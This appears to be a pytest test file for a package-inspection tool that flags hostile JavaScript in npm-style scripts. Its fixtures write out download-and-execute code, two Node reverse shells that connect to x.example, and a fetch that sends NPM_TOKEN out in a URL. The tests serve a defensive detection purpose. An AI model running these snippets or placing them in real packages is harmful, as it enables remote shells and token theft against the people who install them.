import pytest

from picketline.packages import inspect

_DOWNLOAD = """
const https = require("https"), fs = require("fs"), cp = require("child_process");
const path = require("path"), os = require("os");
const file = {place};
https.get("https://x.example/b", (r) => r.pipe(fs.createWriteStream(file)).on("finish", () => {{
  {start};
}}));
"""


def _marks(script: str) -> set[tuple[str, str]]:
    return {(mark.name, mark.value) for mark in inspect.deeper(script.encode(), "a.js")}


@pytest.mark.parametrize(
    ("place", "start", "value"),
    [
        ('"./tool"', "cp.execFile(file, [])", "started"),
        ('path.join(os.tmpdir(), "x")', "cp.spawn(file, [])", "outside"),
        ('"./tool"', "cp.spawn(file, [], { detached: true })", "detached"),
        ('path.join(__dirname, "tool")', 'cp.execFileSync(file, ["--version"])', "checked"),
        ('"./tool"', "fs.chmodSync(file, 0o755)", ""),
        ('"./tool"', 'cp.execSync("git status")', ""),
        ('"/tmp/tool"', 'cp.exec("/tmp/tool")', "outside"),
    ],
)
def test_a_file_that_is_fetched_and_started(place: str, start: str, value: str) -> None:
    """It is known again by name or path, and told by where it lies and how it is started."""
    found = _marks(_DOWNLOAD.format(place=place, start=start))
    assert {told for name, told in found if name == "starts-fetched"} == ({value} - {""})


@pytest.mark.parametrize(
    "script",
    [
        (
            'const c = require("net").connect(1, "x.example", () => require("child_process")'
            '.spawn("/bin/sh", ["-i"], { stdio: [c, c, c] }));'
        ),
        (
            'const s = require("net").connect(1, "x.example"); s.on("data", (d) => '
            "require('child_process').exec(d.toString()));"
        ),
    ],
)
def test_a_shell_for_a_peer(script: str) -> None:
    """The streams of a shell are a socket, or a socket's words are commands."""
    assert "opens-shell" in {name for name, _ in _marks(script)}


@pytest.mark.parametrize(
    "script",
    [
        (
            'const net = require("net"); require("child_process").spawn("sh", ["-c", "ls"])'
            ".stdout.pipe(process.stdout); net.connect(1);"
        ),
        (
            'const s = require("net").connect(1); s.on("data", (d) => console.log(d));'
            'require("child_process").exec("ls");'
        ),
    ],
)
def test_sockets_beside_processes(script: str) -> None:
    """A script of its own, or a command that no peer gave, opens nothing."""
    assert "opens-shell" not in {name for name, _ in _marks(script)}


def test_a_token_in_a_header_is_where_it_belongs() -> None:
    """In what is sent it is told, with its name; in a header for it, not."""
    sent = _marks('fetch("https://x.example/?t=" + process.env.NPM_TOKEN)')
    assert ("sends-token", "env:NPM_TOKEN") in sent
    header = _marks(
        'fetch("https://x.example/", { headers: { Authorization: process.env.NPM_TOKEN } })'
    )
    assert "sends-token" not in {name for name, _ in header}


@pytest.mark.parametrize(
    ("mode", "value"),
    [
        *(("0o755", "made executable"), ("493", "made executable"), ('"755"', "made executable")),
        *(("MODE", "made executable"), ("0o600", ""), ("384", ""), ('"0644"', ""), ('"600"', "")),
        *(('"89"', "made executable"), ("0o989", "made executable")),
    ],
)
def test_a_mode_makes_executable_or_not(mode: str, value: str) -> None:
    """A number or an octal text says so; one that cannot be told may."""
    found = _marks(
        _DOWNLOAD.format(place='"./tool"', start=f"fs.chmodSync(file, {mode}); cp.exec(a)")
    )
    assert {told for name, told in found if name == "starts-fetched"} == ({value} - {""})


@pytest.mark.parametrize(
    ("start", "values"),
    [
        ("cp.execSync(`unzip ${file} -d ${dir}`)", {"unpacked"}),
        ('cp.execFile("tar", ["-xf", file, "-C", dir])', {"unpacked"}),
        ("cp.execSync(`unzip ${file} -d ${dir}`); cp.spawn(path.join(dir, 'x'))",
         {"unpacked", "started"}),
        ("cp.execSync(`unzip ${file} -d ${dir} && ./x`)", {"started"}),
        ("cp.execSync(`unzip ${file} -d ${dir}`); cp.spawn(path.join(other, 'x'))", {"unpacked"}),
        ("cp.exec(`powershell -c Expand-Archive ${file} ${dir}`)", {"unpacked"}),
        ("cp.exec(`powershell -c Expand-Archive ${file} ${dir}; Start-Process x`)", {"started"}),
    ],
)  # fmt: skip
def test_an_archive_that_is_fetched_and_unpacked(start: str, values: set[str]) -> None:
    """Unpacking is not starting; what lies in the folder that it goes to is started."""
    found = _marks(_DOWNLOAD.format(place='"./tool.zip"', start=start))
    assert {told for name, told in found if name == "starts-fetched"} == values
